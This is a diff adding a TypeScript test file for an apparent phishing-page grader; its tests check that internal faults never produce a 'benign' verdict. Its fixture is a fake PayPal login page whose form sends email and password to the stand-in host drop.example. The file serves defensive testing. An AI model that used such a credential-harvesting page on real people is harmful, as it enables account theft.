@@ -1,0 +1,100 @@
+import { describe, expect, test } from 'bun:test'
+import { join } from 'node:path'
+import { CHECKS } from '../../src/trust/checks/all.ts'
+import { grade } from '../../src/trust/grade.ts'
+import { type View, type Views, viewsOf } from '../../src/trust/subjects.ts'
+import { Pool } from '../../src/trust/workers/pool.ts'
+import { captureOf } from './captures.ts'
+import { reportOf, soon } from './workers/scripted.ts'
+
+const PHISH = `<!doctype html><html lang=en><head><title>PayPal: Log in to your account</title></head><body>
+  <h1>Log in to PayPal</h1><p>Your account has been limited.</p><form action="https://drop.example/x" method="post">
+  <input type="email" name="email"><input type="password" name="pass"><button>Log in</button></form>
+  <script>document.body.append('drawn')</script></body></html>`
+const CAPTURE = captureOf('http://login.evil-site.com/page', { body: PHISH })
+const WHOLE = grade(CAPTURE)
+
+const fault = (): never => {
+  throw new RangeError('a bug of ours')
+}
+
+/** The same object, in which one member cannot be read. */
+function without<T extends object>(object: T, name: string): T {
+  return Object.defineProperty({ ...object }, name, { get: fault, enumerable: true })
+}
+
+const views = () => viewsOf(CAPTURE)
+const MEMBERS = Object.keys(views().views[0].subject)
+const STATES = views().views.length
+
+/** The views of the capture, one of which has a member that cannot be read. */
+function faulty(state: number, name: string): Views {
+  const {
+    views: [first, ...rest],
+    ...others
+  } = views()
+  const spoil = (view: View, at: number): View =>
+    at === state ? { ...view, subject: without(view.subject, name) } : view
+  return { ...others, views: [spoil(first, 0), ...rest.map((view, at) => spoil(view, at + 1))] }
+}
+
+const cases = Array.from({ length: STATES }, (_, state) =>
+  MEMBERS.map((name) => [state, name] as const),
+).flat()
+
+describe('a fault of ours in judging never costs the report [T11]', () => {
+  test.each(cases)('state %d of the page, %s', (state, name) => {
+    const given = faulty(state, name)
+    const report = grade(CAPTURE, CHECKS, given)
+    expect(given.faults.length).toBeGreaterThan(0)
+    expect(report.verdict).not.toBe('benign')
+    if (report.coverage.scripts.cut === null) expect(report.coverage.limits).toContain('check_failed')
+    else expect(report.coverage.scripts.cut).toBe('broken')
+  })
+
+  test.each(['hops', 'body', 'resources', 'fetched_at'])('the capture’s %s, while it is read', (name) => {
+    let reads = 0
+    const capture = Object.defineProperty({ ...CAPTURE, resources: [] }, name, {
+      // Once, since the report has to say something of it.
+      get: () => (reads++ === 0 ? fault() : Reflect.get({ ...CAPTURE, resources: [] }, name)),
+    })
+    const given = viewsOf(capture)
+    expect(given.faults).toHaveLength(1)
+    expect(given.scripts.cut).toBe('broken')
+    expect(grade(capture, CHECKS, given).verdict).not.toBe('benign')
+  })
+
+  test('what is not touched by it is judged as ever', () => {
+    const { signals } = grade(CAPTURE, CHECKS, faulty(STATES - 1, 'page'))
+    expect(signals.map(({ id }) => id)).toEqual(
+      expect.arrayContaining(
+        WHOLE.signals.map(({ id }) => id).filter((id) => id.startsWith('content.brand')),
+      ),
+    )
+  })
+
+  test('without one, nothing is told', () => {
+    const given = views()
+    expect([grade(CAPTURE, CHECKS, given).coverage.scripts.cut, given.faults]).toEqual([null, []])
+  })
+})
+
+describe('a child tells its parent of faults, by their places alone [T11]', () => {
+  test.each([0, 2, 9])('%d of them', async (count) => {
+    const pool = new Pool({ entry: join(import.meta.dir, 'workers', 'scripted-child.ts'), size: 1 })
+    try {
+      const url = `http://child.example/fault?value=${count}`
+      const task = { input: url, url, settings: { resolver: null, allowNetworks: [], contactUrl: null } }
+      const outcome = await pool.run(task, soon(60_000))
+      expect(reportOf<string>(outcome)).toBe('whole')
+      const faults = 'faults' in outcome ? outcome.faults : null
+      expect(faults).toHaveLength(Math.min(count, 3))
+      for (const place of faults ?? []) {
+        expect(place).toStartWith('RangeError\n')
+        expect(place).not.toContain('secret')
+      }
+    } finally {
+      await pool.close()
+    }
+  })
+})
